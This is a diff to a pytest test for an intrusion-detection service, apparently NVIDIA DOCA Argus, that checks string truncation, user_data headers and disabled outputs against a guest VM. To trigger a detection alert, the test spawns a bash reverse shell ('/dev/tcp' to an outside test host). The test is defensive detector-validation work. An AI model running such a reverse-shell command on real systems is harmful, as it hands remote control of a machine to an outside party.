@@ -1,7 +1,10 @@
 """Every configuration key does what docs/configuration.md says, against the
 live guest (issue 12): profile_generation, a system's log_level,
-output.stdout, events.sbom given as SHA-256 signatures, and `run --check`
-finding what `run` would stumble on at start."""
+output.stdout (on and off), events.sbom given as SHA-256 signatures, `run
+--check` finding what `run` would stumble on at start; argus.default's
+limits.string_length, output.telemetry.user_data and an activity that is
+on by default switched off, with the message header's values of
+section 9."""
 import hashlib
 import json
 import os
@@ -11,7 +14,7 @@ import time
 import pytest
 
 from conftest import ARGUS, Service
-from guest import initrd_file
+from guest import OUTSIDE, OUTSIDE_QUIET, initrd_file
 
 SLEEP = "500ms"
 NAMES = lambda svc: [m["activity_data"]["name"] for m in svc.messages]  # noqa: E731
@@ -102,6 +105,73 @@ def test_stdout_json_lines(guest, tmp_path):
     assert "argus: argus" in err and "started" in err, err
     assert "argus stopped" in err
     assert "Host Initialization Successful" not in err or "{" not in err
+
+
+def test_string_length_user_data_stdout_off_and_an_activity_off(guest, tmp_path):
+    """argus.default.limits.string_length 40: the guest's strings in
+    messages cut at 40 characters and marked, detection unhindered (a
+    reverse shell from a bash whose path is 70 characters long is alerted:
+    by its content, as ever); output.telemetry.user_data in every message
+    (escaped); output.stdout false: nothing on standard output;
+    collection.process_created false: a process's birth is not told, its
+    end is.  Every message's header carries section 9's enum values."""
+    MARK = "[...truncated]"
+    user_data = 'rack 7 "b" \\ \u00e9'      # quotes, a backslash, a non-ASCII letter
+    d = "/tmp/" + "d" * 60
+    svc = Service(tmp_path, guest, sleep=SLEEP, split_stderr=True, stdout=False,
+                  argus="  default:\n    limits:\n      string_length: 40\n",
+                  collection="  process_created: false\n",
+                  output=f"  telemetry:\n    user_data: {json.dumps(user_data)}\n")
+    try:
+        guest.check(f"mkdir -p {d} && cp /bin/bash {d}/bash")
+        since = svc.mark()
+        args = "napper 3000 " + "x" * 50
+        pid = int(guest.check(f"cd {d} && ({args} >/dev/null 2>&1 & echo $!)"))
+        shell = guest.spawn(f"{d}/bash -c 'exec {d}/bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
+        found = svc.wait_for(lambda m: m["activity_data"]["name"] == "Reverse Shell Detected",
+                             timeout=4 * svc.sleep_s + 5)
+        assert found, "the reverse shell from a long path was not alerted"
+        p = found[0]["activity_data"]["process_list"][0]["process_details"]
+        assert p["process_id"] == shell and p["process_name"] == "bash", p
+        assert p["process_executable_path"] == (d + "/bash")[:40] + MARK, p
+        # §11.8: the shell's descriptors, 0 to 2 on its connection
+        fds = {f["file_descriptor_details"]["file_descriptor_index"]: f["file_descriptor_details"]
+               for f in p["file_descriptor_list"]}
+        assert {0, 1, 2} <= set(fds), fds
+        assert len({fds[i]["file_descriptor_name"] for i in (0, 1, 2)}) == 1, fds
+        assert all(fds[i]["file_descriptor_file_type"] == "SOCKET" and
+                   fds[i]["file_descriptor_name"].startswith("socket:[") for i in (0, 1, 2)), fds
+        guest.run(f"kill -9 {shell}; kill {pid}")
+        gone = svc.wait_for(lambda m: m["activity_data"]["name"] == "Process Terminated" and
+                            m["activity_data"]["process_details"]["process_id"] == pid,
+                            timeout=4 * svc.sleep_s + 5)
+        assert gone, "napper's end was not told"
+        p = gone[0]["activity_data"]["process_details"]
+        assert p["process_command_line_arguments"] == args[:40] + MARK, p
+        assert p["process_current_working_directory"] == d[:40] + MARK, p
+        assert p["process_name"] == "napper"
+        time.sleep(2 * svc.sleep_s)
+        svc.poll()
+        mine = svc.messages[since:]
+        born = [m for m in mine if m["activity_data"]["name"] == "Process Created"]
+        assert not born, f"process_created is off, yet: {born[:2]}"
+        svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))
+    finally:
+        guest.run(f"rm -rf {d}")
+        svc.stop()
+    # the header of every message, the service's own included
+    ifaces = set(os.listdir("/sys/class/net"))
+    for m in svc.messages:
+        assert m["vendor_name"] == "NVIDIA" and m["product_name"] == "DOCA_ARGUS", m
+        assert m["user_data"] == user_data, m["user_data"]
+        assert m["message_timezone"] == "UTC" and m["schema_version"] == "1.0"
+        for i in m["bluefield_system_information"]["bluefield_networking_interfaces"].values():
+            name = i["bluefield_network_interface_name"]
+            assert name in ifaces, i
+            with open(f"/sys/class/net/{name}/address") as f:
+                assert i["bluefield_network_interface_mac_address"] == f.read().strip(), i
+    assert svc.messages and not open(os.path.join(svc.dir, "stdout.log")).read(), \
+        "output.stdout is false, yet messages went to standard output"
 
 
 # ---- events.sbom as SHA-256 signatures (section 7.3) ----
